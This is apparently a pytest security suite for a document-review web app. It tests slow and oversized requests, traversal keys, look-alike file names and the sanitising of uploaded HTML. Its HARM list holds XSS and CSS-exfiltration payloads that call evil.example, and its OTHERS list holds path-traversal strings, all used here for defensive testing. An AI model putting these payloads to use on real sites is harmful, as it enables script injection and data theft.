"""What somebody who means harm may try: slow, long, many, and under other names."""

from __future__ import annotations

import asyncio
import re
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient
from structlog.testing import capture_logs
from whole_site import CELL, HTML, Pages, csrf, keys, put_file

from storage.errors import Unavailable
from storage.memory import MemoryObjectStore
from storage.objects import Stored
from storage.results import DocumentVersion
from tasks.model.refusal import RefusalCode, ended
from workers.site.access.forgery import FORM_BYTES
from workers.site.access.guard import Guard
from workers.site.access.pace import SLOWEST_BYTES_PER_SECOND, hastened
from workers.site.turns import TooMany, Turns
from workers.site.uploads import AT_ONCE, NotTaken, key_of


@pytest.fixture
def pages(tmp_path: Path) -> Iterator[Pages]:
    made = Pages(tmp_path)
    yield made
    made.close()


@pytest.fixture
def clerk(pages: Pages) -> Iterator[TestClient]:
    with pages.visit() as client:
        yield client


# --- who sends slowly ------------------------------------------------------------------------


class Slow:
    """A visitor who sends what he was told to, and then nothing."""

    def __init__(self, *chunks: bytes, more: bool = True) -> None:
        self.messages = [
            {"type": "http.request", "body": chunk, "more_body": more} for chunk in chunks
        ]

    async def receive(self) -> Any:
        if self.messages:
            return self.messages.pop(0)
        return await asyncio.Event().wait()


def test_who_sends_nothing_has_gone() -> None:
    async def ask() -> list[str]:
        receive = hastened(Slow(b"a", b"b").receive, 0.1)
        return [(await receive())["type"] for _ in range(3)]

    assert asyncio.run(ask()) == ["http.request", "http.request", "http.disconnect"]


def test_who_sends_little_has_no_more_time_for_it() -> None:
    async def drip() -> Any:
        await asyncio.sleep(0.02)
        return {"type": "http.request", "body": b"x", "more_body": True}

    async def ask() -> int:
        receive, came = hastened(drip, 0.2), 0
        while (await receive())["type"] == "http.request":
            came += 1
        return came

    assert asyncio.run(ask()) <= 10


def test_who_sends_enough_may_take_his_time() -> None:
    async def stream() -> Any:
        await asyncio.sleep(0.2)
        return {"type": "http.request", "body": bytes(SLOWEST_BYTES_PER_SECOND), "more_body": True}

    async def ask() -> None:
        receive = hastened(stream, 0.8)
        for _ in range(6):
            assert (await receive())["type"] == "http.request"

    asyncio.run(ask())


def test_who_was_quick_may_not_stop_for_longer() -> None:
    async def ask() -> float:
        receive = hastened(Slow(bytes(100 * SLOWEST_BYTES_PER_SECOND)).receive, 0.1)
        await receive()
        began = time.monotonic()
        assert (await receive())["type"] == "http.disconnect"
        return time.monotonic() - began

    assert asyncio.run(ask()) < 2


def test_who_has_sent_all_of_it_is_waited_for() -> None:
    async def ask() -> None:
        receive = hastened(Slow(b"a", more=False).receive, 0.05)
        assert (await receive())["type"] == "http.request"
        with pytest.raises(TimeoutError):
            await asyncio.wait_for(receive(), 0.2)

    asyncio.run(ask())


def asked(pages: Pages, client: TestClient, method: str, path: str, **more: str) -> Any:
    """A request, as its scope; its head is all that comes of it."""
    address, _, query = path.partition("?")
    headers = {
        "host": "localhost:8080",
        "cookie": "; ".join(f"{name}={value}" for name, value in client.cookies.items()),
        "x-csrf-token": csrf(client),
        **more,
    }
    return {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method,
        "scheme": "http", "path": address, "raw_path": address.encode(), "root_path": "",
        "query_string": query.encode(), "client": ("192.0.2.1", 1), "server": ("localhost", 8080),
        "headers": [(name.encode(), value.encode()) for name, value in headers.items()],
    }  # fmt: skip


def hasty(pages: Pages, patience_seconds: float) -> Guard:
    """The same site with the same sessions, and less patience."""
    guard: Any = pages.app
    return Guard(guard._app, guard._gate, patience_seconds=patience_seconds)


async def answered(app: Any, scope: Any, visitor: Slow) -> tuple[int, bytes]:
    sent: list[Any] = []

    async def send(message: Any) -> None:
        sent.append(message)

    await app(scope, visitor.receive, send)
    return sent[0]["status"], b"".join(one.get("body", b"") for one in sent)


@pytest.mark.parametrize(
    ("method", "path", "kind"),
    [
        ("PUT", "/overview/expected", "text/csv"),
        ("POST", "/upload/states", "application/json"),
        ("POST", "/review", "application/x-www-form-urlencoded"),
        ("POST", "/again", "application/x-www-form-urlencoded"),
        ("POST", "/sign-out", "application/x-www-form-urlencoded"),
    ],
)
def test_no_request_is_half_read_for_ever(
    pages: Pages, clerk: TestClient, method: str, path: str, kind: str
) -> None:
    app = hasty(pages, 0.05)
    scope = asked(pages, clerk, method, path, **{"content-type": kind})
    with capture_logs() as logs:
        status, _ = asyncio.run(asyncio.wait_for(answered(app, scope, Slow(b"x")), 5))
    assert status in (303, 408, 413)
    assert not [one for one in logs if one["event"] == "site.broke"]


def test_slow_uploads_hold_no_place(pages: Pages, clerk: TestClient) -> None:
    app = hasty(pages, 4)

    async def ask() -> tuple[list[tuple[int, bytes]], tuple[int, bytes]]:
        scopes = [asked(pages, clerk, "PUT", f"/upload?path={n}.pdf") for n in range(5 * AT_ONCE)]
        large = Slow(bytes(100_000))
        slow = [asyncio.create_task(answered(app, scopes.pop(), large))]
        slow += [asyncio.create_task(answered(app, one, Slow(b"x"))) for one in scopes]
        await asyncio.sleep(0.1)
        scope = asked(pages, clerk, "PUT", "/upload?path=good.pdf")
        good = await asyncio.wait_for(answered(app, scope, Slow(HTML, more=False)), 3)
        return list(await asyncio.gather(*slow)), good

    slow, good = asyncio.run(ask())
    assert {status for status, _ in slow} == {408}
    assert "重试".encode() in slow[0][1]
    assert good[0] == 200
    assert keys(pages.store) == ["inbox/good.pdf"]


def test_a_full_disk_is_told(
    pages: Pages, clerk: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", "/dev/null/nowhere")
    answer = put_file(clerk, "a.html", bytes(200_000))
    assert answer.status_code == 503
    assert "磁盘空间不足" in answer.json()["why"]
    assert not keys(pages.store)


# --- who sends much --------------------------------------------------------------------------


def test_a_question_of_states_is_not_read_without_end(clerk: TestClient) -> None:
    read = 0

    def endless() -> Iterator[bytes]:
        nonlocal read
        for _ in range(10_000):
            read += 2**16
            yield bytes(2**16)

    headers = {"X-CSRF-Token": csrf(clerk)}
    assert clerk.post("/upload/states", content=endless(), headers=headers).status_code == 413
    long = b"[" + b" " * (2 << 20) + b"]"
    answer = clerk.post("/upload/states", content=long, headers=headers)
    assert answer.status_code == 413
    assert "过长" in answer.text


@pytest.mark.parametrize("path", ["/again", "/review", "/overview/expected"])
def test_no_way_around_the_limit_of_forms(pages: Pages, clerk: TestClient, path: str) -> None:
    """With the token in a header the guard leaves the body to the page."""
    headers = {"X-CSRF-Token": csrf(clerk)}
    long = {"names": "x" * FORM_BYTES, "key": "inbox/none"}
    assert clerk.post(path, data=long, headers=headers).status_code == 413
    many = {f"f{n}": "x" for n in range(2000)}
    assert clerk.post(path, data=many, headers=headers).status_code == 400
    files = {"names": ("a.csv", b"x" * 5_000_000)}
    assert clerk.post(path, files=files, headers=headers).status_code == 413
    assert not keys(pages.store, "")
    assert not pages.again


def test_a_long_list_may_be_pasted_and_a_longer_one_is_told(
    pages: Pages, clerk: TestClient
) -> None:
    names = "".join(f"某某市某某县第{n}人民政府\n" for n in range(3000))
    form = {"csrf": csrf(clerk), "names": names}
    assert clerk.post("/overview/expected", data=form).status_code == 303
    assert keys(pages.store, "expected/") == ["expected/organs.csv"]
    answer = clerk.post("/overview/expected", data=form | {"names": names * 3})
    assert answer.status_code == 413
    assert "上传文件" in answer.text
    assert "as a file" in answer.text


# --- who asks for much -----------------------------------------------------------------------


def test_turns_are_for_a_few() -> None:
    turns, go = Turns(at_once=2, waiting=1, patience_seconds=5), threading.Event()

    def work() -> bool:
        try:
            with turns.one():
                return go.wait(5)
        except TooMany:
            return False

    with ThreadPoolExecutor(8) as pool:
        asked = [pool.submit(work) for _ in range(8)]
        refused = [one for one in asked if _soon(one) is False]
        go.set()
        assert len(refused) == 5
        assert [one.result() for one in asked].count(True) == 3
    with turns.one():  # and all is as it was
        pass


def _soon(one: Any) -> Any:
    try:
        return one.result(0.3)
    except TimeoutError:
        return None


def test_a_turn_is_not_waited_for_without_end() -> None:
    turns = Turns(at_once=1, waiting=1, patience_seconds=0.05)
    with turns.one(), pytest.raises(TooMany), turns.one():
        pass


@pytest.mark.parametrize("path", ["/wide.xlsx", "/list.csv", "/overview/sums.xlsx"])
def test_who_comes_when_many_wait_is_told(pages: Pages, clerk: TestClient, path: str) -> None:
    pages.put("a.html")
    site: Any = pages.app
    site._app.state.making = Turns(at_once=0, waiting=0)
    answer = clerk.get(path)
    assert answer.status_code == 503
    assert answer.headers["retry-after"]
    assert "稍候" in answer.text
    part = clerk.get("/overview/sums", headers={"HX-Request": "true"})
    assert part.status_code == 200
    assert "稍候" in part.text
    assert "<header" not in part.text


@pytest.mark.parametrize("asked_for", ["bytes=999999999-", "bytes=x", "bytes=0-0,2-2", None])
def test_nothing_is_left_of_a_list_however_it_is_asked_for(
    pages: Pages, clerk: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    asked_for: str | None,
) -> None:  # fmt: skip
    made = tmp_path / "made"
    made.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(made))
    pages.put("a.html")
    answer = clerk.get("/list.csv", headers={"Range": asked_for} if asked_for else {})
    assert answer.status_code == 200
    assert int(answer.headers["content-length"]) == len(answer.content)
    assert clerk.head("/wide.csv").status_code == 200
    assert not list(made.iterdir())


@pytest.mark.parametrize("path", ["/long.csv", "/wide.csv"])
def test_figures_are_sent_as_they_are_made(
    pages: Pages, clerk: TestClient, path: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of many documents they are gigabytes, which are put down nowhere."""
    pages.put("a.html")
    site: Any = pages.app
    site._app.state.making = Turns(at_once=0, waiting=0)
    monkeypatch.setattr("tempfile.tempdir", "/nowhere")
    answer = clerk.get(path)
    assert answer.status_code == 200
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert "霁川" in answer.content.decode()
    assert "content-length" not in answer.headers


def test_who_should_report_is_compared_once(pages: Pages, clerk: TestClient) -> None:
    pages.put("a.html")
    headers = {"X-CSRF-Token": csrf(clerk)}
    names = "洪泽区霁川服务中心\n某县未报局\n".encode()
    assert clerk.put("/overview/expected", content=names, headers=headers).status_code == 200
    assert "应报送 2 个，已报送 1 个" in clerk.get("/overview").text
    site: Any = pages.app
    site._app.state.making = Turns(at_once=0, waiting=0)
    assert "应报送 2 个，已报送 1 个" in clerk.get("/overview").text
    # another list is another question
    other = names + "某县某局\n".encode()
    assert clerk.put("/overview/expected", content=other, headers=headers).status_code == 200
    assert clerk.get("/overview").status_code == 503


class Counted(MemoryObjectStore):
    """Remembers how much was fetched at once."""

    def __init__(self) -> None:
        super().__init__()
        self.fetched: list[int] = []

    def get(self, key: str, **how: Any) -> Stored:
        stored = super().get(key, **how)
        self.fetched.append(stored.info.size)
        return stored

    def get_part(self, key: str, first: int, size: int, *, if_match: str) -> bytes:
        self.fetched.append(size)
        return MemoryObjectStore.get(self, key, if_match=if_match).body[first : first + size]


def test_an_original_is_sent_a_part_at_a_time(tmp_path: Path) -> None:
    store = Counted()
    pages = Pages(tmp_path, store)
    body = b"%PDF-1.4 " + bytes(range(256)) * 12_000
    store.put("inbox/大.pdf", body, content_type="application/pdf")
    with pages.visit() as clerk:
        answer = clerk.get("/download", params={"key": "inbox/大.pdf"})
    pages.close()
    # Also one that is larger than what is processed here: it is its owner's.
    assert len(body) > pages.desk.max_document_mib * 2**20
    assert answer.content == body
    assert answer.headers["content-type"] == "application/pdf"
    assert max(store.fetched) <= 2**20


def test_originals_wait_for_their_turn_before_they_are_fetched(tmp_path: Path) -> None:
    store = Counted()
    pages = Pages(tmp_path, store)
    key = pages.put("a.html")
    pages.originals._waiting = 100
    store.fetched.clear()
    with pages.visit() as clerk:
        answer = clerk.get("/original/page.html", params={"key": key, "cell": CELL})
    pages.close()
    assert answer.status_code == 422
    assert len(HTML) not in store.fetched


def test_clicking_again_and_again_is_told(pages: Pages, clerk: TestClient) -> None:
    pages.put("a.pdf", b"%PDF-1.4 nothing")
    site: Any = pages.app
    site._app.state.sending = Turns(at_once=0, waiting=0)
    form = {"csrf": csrf(clerk), "code": "corrupt", "said": ""}
    answer = clerk.post("/again", data=form)
    assert answer.status_code == 503
    assert "稍候" in answer.text
    assert not pages.again


# --- other names -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "kept"),
    [
        ("e\u0301t\u00e9.pdf", "\u00e9t\u00e9.pdf"),  # as macOS writes it
        ("年报\u202efdp.html", "年报fdp.html"),  # shown as 年报lmth.pdf
        ("\ufeff年\u200b报.pdf", "年报.pdf"),
        ("a\\b\\\\c.pdf", "a/b/c.pdf"),
        ("A.pdf", "A.pdf"),
    ],
)
def test_names_that_look_alike_are_one(path: str, kept: str) -> None:
    assert key_of(path) == f"inbox/{kept}"


@pytest.mark.parametrize(
    "path",
    ["a\x7fb", "a\u2028b", "a\x85b", "\u200b", "年" * 90 + ".pdf", "a/" + "x" * 300 + "/b",
     ".\u200b./a", "..\\a"],
)  # fmt: skip
def test_names_that_no_store_keeps_or_nobody_sees_are_told(path: str) -> None:
    with pytest.raises(NotTaken) as told:
        key_of(path)
    assert told.value.status == 400


OTHERS = ("results/a.html/result.json", "reviews/a.html.json", "expected/organs.csv",
          "inbox/../results/a.html/result.json", "inbox/./a.html", "inbox/a.html\0",
          "inbox/%2e%2e/results/a.html/result.json", "inbox\\..\\results", "/inbox/a.html",
          "INBOX/a.html", "inbox/")  # fmt: skip


class AnyKey(MemoryObjectStore):
    """A store that understands `..` as file systems do, and takes no NUL."""

    def head(self, key: str, version_id: str | None = None) -> Any:
        if "\0" in key:
            raise Unavailable("no such keys")
        return super().head(re.sub(r"[^/]+/\.\./|\./", "", key), version_id)


def test_nothing_but_the_inbox_is_read_through_a_key(tmp_path: Path) -> None:
    pages = Pages(tmp_path, AnyKey())
    pages.put("a.html")
    pages.store.put("reviews/a.html.json", b"{}", content_type="")
    pages.store.put("expected/organs.csv", b"x", content_type="")
    with pages.visit() as clerk:
        token = csrf(clerk)
        for other in OTHERS:
            for address in ("/document", "/original/page.html", "/original/page.png"):
                answer = clerk.get(address, params={"key": other})
                assert answer.status_code == 404, (address, other)
            for what in ("original", "result.json", "report.html"):
                asked_for = {"key": other, "what": what}
                assert clerk.get("/download", params=asked_for).status_code == 404, asked_for
            form = {"csrf": token, "key": other, "finding": "0" * 16, "seen": ""}
            assert clerk.post("/again", data=form).status_code == 404, other
            assert clerk.post("/review", data=form).status_code == 404, other
    pages.close()


def test_nothing_else_is_downloaded(pages: Pages, clerk: TestClient) -> None:
    key = pages.put("a.html")
    for what in ("../a.html", "result.json/..", "report.html\0", "!x", "RESULT.JSON", "reviews"):
        asked_for = {"key": key, "what": what}
        assert clerk.get("/download", params=asked_for).status_code == 404, what


NO_CELLS = ("organ.a.b", "form.x", "year.a", "left_over.x.y", "edition.requests.x", "region.a.b",
            ".", "requests.new.total\0", "../x", "<script>", "requests." + "x" * 5000)  # fmt: skip


def test_a_cell_that_is_none_is_looked_for_in_vain(pages: Pages, clerk: TestClient) -> None:
    key = pages.put("a.html")
    for cell in NO_CELLS:
        for address in ("/document", "/original/page.html"):
            answer = clerk.get(address, params={"key": key, "cell": cell})
            assert answer.status_code == 200, (address, cell)
            assert "<script>" not in answer.text.replace('<script src="/static', "")


# --- what is said where nothing is ------------------------------------------------------------


def test_a_file_that_is_not_there_is_kept_by_nobody(clerk: TestClient) -> None:
    """What a cache on the way takes for a file is a page of who asked for it."""
    for address in ("/static/none.css", "/static/document", "/static/../document"):
        answer = clerk.get(address)
        assert answer.headers["cache-control"] == "no-store", address
    assert "cache-control" not in clerk.get("/static/site.css").headers


@pytest.mark.parametrize("method", ["OPTIONS", "TRACE", "PUT", "DELETE", "PATCH"])
def test_other_methods_are_refused_with_all_headers(clerk: TestClient, method: str) -> None:
    headers = {"X-CSRF-Token": csrf(clerk), "X-HTTP-Method-Override": "GET"}
    for address in ("/", "/document?key=inbox/a", "/static/site.css", "/nowhere"):
        answer = clerk.request(method, address, headers=headers)
        assert answer.status_code in (404, 405), address
        assert "script-src 'self'" in answer.headers["content-security-policy"]
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "Traceback" not in answer.text


def test_nothing_is_changed_by_asking_for_a_page(pages: Pages, clerk: TestClient) -> None:
    key = pages.put("a.html")
    before = {name: pages.store.head(name) for name in keys(pages.store, "")}
    changing = {"key": key, "decision": "confirmed", "all": "1", "path": "x.html", "names": "甲"}
    for address in ("/again", "/review", "/upload", "/overview/expected", "/sign-out", "/"):
        for method in ("GET", "HEAD", "OPTIONS"):
            clerk.request(method, address, params=changing)
    assert {name: pages.store.head(name) for name in keys(pages.store, "")} == before
    assert not pages.again
    assert clerk.get("/").status_code == 200


def test_a_path_of_a_mile_does_not_fill_the_log(pages: Pages) -> None:
    with pages.visit(None) as stranger, capture_logs() as logs:
        stranger.get("/" + "x" * 20_000, headers={"Host": "evil.example"})
    assert len(logs[0]["path"]) <= 200


def test_a_planted_form_cookie_breaks_nothing(pages: Pages) -> None:
    for value in ('"a\\012b"', '"<script>"', "a" * 3000, '"\\303"'):
        with pages.visit(None) as stranger:
            answer = stranger.get("/sign-in", headers={"Cookie": f"gouji-form-8080={value}"})
            assert answer.status_code == 200
            assert "<script>" not in answer.text
            assert "\n" not in answer.headers["set-cookie"]


def test_originals_send_their_own_headers(pages: Pages, clerk: TestClient) -> None:
    key = pages.put("a.html")
    answer = clerk.get("/original/page.html", params={"key": key})
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
    assert answer.headers["cache-control"] == "no-store"


HARM = (
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=a><button>x</button></form>",
    "<a href='javascript:alert(1)' target=_top ping=https://evil.example/>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)><a href='https://evil.example/'>x</a></svg>",
    "<link rel=prefetch href=https://evil.example/><link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css';body{background:url(https://evil.example/)}</style>",
    "<style>input[value^='a']{background:\\75rl(//evil.example/a)}</style>",
    "<div hx-get=https://evil.example/ hx-trigger=load data-hx-post=/again>x</div>",
    "<p id=GOUJI-CELL>9</p><p id=gouji-cell>9</p>",
    "<img src=https://evil.example/x.png srcset='//evil.example/y.png 2x'>",
    "<math><mtext></form><mglyph><style></math><img src=x onerror=alert(1)>",
)


def test_an_original_reaches_out_to_nobody(pages: Pages, clerk: TestClient) -> None:
    body = HTML.replace(b"</body>", "".join(HARM).encode() + b"</body>")
    key = pages.put("a.html", body)
    shown = clerk.get("/original/page.html", params={"key": key, "cell": CELL}).text.lower()
    outside_of_sheets = re.sub(r"<style.*?</style>", "", shown, flags=re.DOTALL)
    for found in ("http-equiv", "<base", "<form", "href=", "<iframe", "onload", "onerror",
                  "<script", "srcset", "<link", "<svg"):  # fmt: skip
        assert found not in outside_of_sheets, found
    for found in ("@import", "url("):
        assert found not in shown, found
    assert len(re.findall(r'id="gouji-cell"', shown)) == 1


def test_what_an_original_does_to_us_is_told_beside_its_report(
    pages: Pages, clerk: TestClient
) -> None:
    """Its process is killed from outside, twice."""
    from tasks.jobs import Lost

    key = pages.put("a.txt", "政府信息公开工作年度报告\n".encode() * 3)

    def lost(*_: Any, **__: Any) -> Any:
        raise Lost(ended(RefusalCode.CRASHED))

    pages.originals._enclosure.ask = lost  # type: ignore[method-assign]
    answer = clerk.get("/document", params={"key": key})
    assert answer.status_code == 200
    assert "请下载原件查看" in answer.text


# --- at the same time ------------------------------------------------------------------------


def test_only_what_was_seen_is_replaced(pages: Pages, clerk: TestClient) -> None:
    token = {"X-CSRF-Token": csrf(clerk)}

    def put(body: bytes, **how: str) -> Any:
        return clerk.put("/upload", params={"path": "a.html"} | how, content=body, headers=token)

    put(b"one")
    seen = put(b"two").json()["etag"]
    pages.store.put("inbox/a.html", b"somebody else's", content_type="")
    again = put(b"two", over="replace", seen=seen)
    assert (again.status_code, again.json()["state"]) == (409, "other")
    assert pages.store.get("inbox/a.html").body == b"somebody else's"
    assert put(b"two", over="replace", seen=again.json()["etag"]).status_code == 200
    assert pages.store.get("inbox/a.html").body == b"two"


def test_a_burst_of_one_name_keeps_every_content(pages: Pages, clerk: TestClient) -> None:
    token = {"X-CSRF-Token": csrf(clerk)}

    def send(number: int) -> int:
        asked = {"path": "年报.html", "over": "both" if number else ""}
        return clerk.put("/upload", params=asked, content=b"%d" % number, headers=token).status_code

    with ThreadPoolExecutor(8) as pool:
        statuses = list(pool.map(send, range(12)))
    assert set(statuses) == {200}
    bodies = {pages.store.get(key).body for key in keys(pages.store)}
    assert bodies == {b"%d" % number for number in range(12)}


def test_a_version_that_was_replaced_meanwhile_is_not_sent_for_it(
    pages: Pages, clerk: TestClient
) -> None:
    key = pages.put("a.html")
    info = pages.store.head(key)
    assert info is not None
    parts = pages.desk.parts(DocumentVersion.of(info))
    pages.store.put(key, b"x" * info.size, content_type="")
    from storage.errors import Conflict

    with pytest.raises(Conflict):
        next(parts)


def test_signed_out_means_signed_out_everywhere(pages: Pages) -> None:
    with pages.visit() as clerk:
        held = dict(clerk.cookies)
        assert clerk.post("/sign-out", data={"csrf": csrf(clerk)}).status_code == 303
        for address in ("/", "/document?key=inbox/a", "/list.csv", "/original/page.png"):
            clerk.cookies.update(held)
            answer = clerk.get(address)
            assert answer.headers.get("location", "").startswith("/sign-in"), address
            assert answer.headers["cache-control"] == "no-store"


# --- many documents --------------------------------------------------------------------------


def test_a_search_of_many_words_among_many_documents_is_quick(
    pages: Pages, clerk: TestClient
) -> None:
    from datetime import UTC, datetime

    from tasks.render.entry import PENDING

    assert pages.catalogue is not None
    moment = datetime.now(UTC)
    pages.catalogue.put_all(
        (
            DocumentVersion(
                key=f"inbox/{'%_' * 20}{number:05}{'年报' * 40}.html", etag="e", version_id=None,
                size=1, last_modified=moment,
            ),
            None,
            PENDING,
        )
        for number in range(5_000)
    )  # fmt: skip
    began = time.monotonic()
    for search in ("% _ " * 50, "年 报 " * 40 + "x", "%_" * 100, "\\ " * 100):
        assert clerk.get("/", params={"search": search}).status_code == 200
    assert time.monotonic() - began < 5
